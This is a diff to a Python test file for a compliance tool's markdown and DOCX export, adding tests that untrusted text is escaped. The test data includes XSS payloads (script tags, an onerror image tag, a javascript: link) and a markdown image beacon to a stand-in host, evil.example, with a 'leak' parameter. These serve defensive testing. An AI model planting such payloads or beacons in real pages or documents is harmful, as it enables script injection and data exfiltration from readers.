@@ -21,6 +21,7 @@ from core.state import (
     Severity,
     verify_chain,
 )
+from tests.inert import HOSTILE, live_markup, unescape
 
 ANSWER = "## EU\nThe reporting threshold is EUR 10,000 [eu-amld6].\n\n## UK\nSee [uk-mlr-2017]."
 
@@ -83,7 +84,7 @@ def _docx_text(data: bytes) -> tuple[str, list[list[list[str]]]]:
 
 
 def test_markdown_has_answer_citations_residuals_cycles_termination_and_audit() -> None:
-    md = _export(_result(), "md").decode()
+    md = unescape(_export(_result(), "md").decode())
     assert "The reporting threshold is EUR 10,000 [eu-amld6]." in md
     assert "### EU" in md  # answer headings sit below the export's own sections
     assert "| eu-amld6 | EU AMLD 6 | EU | Directive 2018/1673 | in_force | in_force | 2021-06-03 |" in md
@@ -105,7 +106,7 @@ def test_markdown_has_answer_citations_residuals_cycles_termination_and_audit() 
 
 
 def test_markdown_without_residuals_says_so() -> None:
-    md = _export(_result(residual_deficiencies=[]), "md").decode()
+    md = unescape(_export(_result(residual_deficiencies=[]), "md").decode())
     assert f"## {RESIDUAL_HEADING}\n\n{NO_RESIDUALS}" in md
 
 
@@ -140,7 +141,7 @@ def test_docx_without_residuals_says_so() -> None:
 def test_tampered_record_shows_failed_audit_everywhere() -> None:
     first, second = _history()
     tampered = _result(evaluation_history=[first.model_copy(update={"overall_score": 0.99}), second])
-    md = _export(tampered, "md").decode()
+    md = unescape(_export(tampered, "md").decode())
     assert "Audit chain check: FAILED" in md and "cycle record 0" in md and "tampered" in md
     data = json.loads(_export(tampered, "json"))
     assert data["audit"]["verified"] is False and "cycle record 0" in data["audit"]["message"]
@@ -153,12 +154,25 @@ def test_untrusted_text_is_escaped_in_markdown() -> None:
                        description="<script>alert(1)</script> a | b\n## injected [link](javascript:x)")
     answer = "Body <img src=x onerror=alert(1)> text"
     md = _export(_result(residual_deficiencies=[evil], current_answer=answer), "md").decode()
-    assert "<script>" not in md and "<img" not in md
-    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in md and "Body &lt;img src=x onerror=alert(1)&gt; text" in md
-    row = next(line for line in md.splitlines() if line.startswith(f"| {evil.id} |"))
-    assert "a \\| b ## injected \\[link\\](javascript:x)" in row
+    assert live_markup(md) == []  # no HTML tag, no link
+    assert "Body <img src=x onerror=alert(1)> text" in unescape(md)
+    row = next(line for line in md.splitlines() if unescape(line).startswith(f"| {evil.id} |"))
+    assert "<script>alert(1)</script> a | b ## injected [link](javascript:x)" in unescape(row)
     assert row.count(" | ") == 5  # six cells: the pipe inside the description does not add a column
-    assert "\n## injected" not in md
+    assert "\n## injected" not in md and "\n\\#\\# injected" not in md
+
+
+def test_hostile_corpus_text_is_inert_in_the_markdown_export() -> None:
+    """Images, links, autolinks, raw URLs, directives and math from a document quoted in the answer, a
+    deficiency and a citation title reach the export as text only."""
+    evil = _deficiency("beacon", ResolutionStatus.open, description=HOSTILE)
+    citation = Citation(doc_id="evil-doc", title=HOSTILE, jurisdiction="EU", declared_status="in_force",
+                        status_at_as_of="in_force")
+    md = _export(_result(residual_deficiencies=[evil], citations=[citation],
+                         current_answer=f"## EU\n{HOSTILE} [evil-doc]\n# {HOSTILE}"), "md").decode()
+    assert live_markup(md) == []
+    assert unescape(md).count("![x](http://evil.example/beacon?leak=1)") == 4
+    assert "### EU" in md and "\n## Owners above 25% \\!\\[x\\]" in md  # headings stay headings, escaped
 
 
 def test_docx_tolerates_control_characters() -> None:
@@ -176,7 +190,7 @@ def test_unknown_format_raises(fmt: str) -> None:
 def test_unfinished_session_is_labelled_provisional(status: str) -> None:
     result = _result(status=status, termination_reason=None, quality_score=None,
                      residual_deficiencies=[OPEN], final_answer="")
-    md = _export(result, "md").decode()
+    md = unescape(_export(result, "md").decode())
     top = md.split("## Answer")[0]
     assert "PROVISIONAL" in top and f"has not finished (status: {status})" in top and "provisional" in top
     assert "still open: the loop has not finished" in md
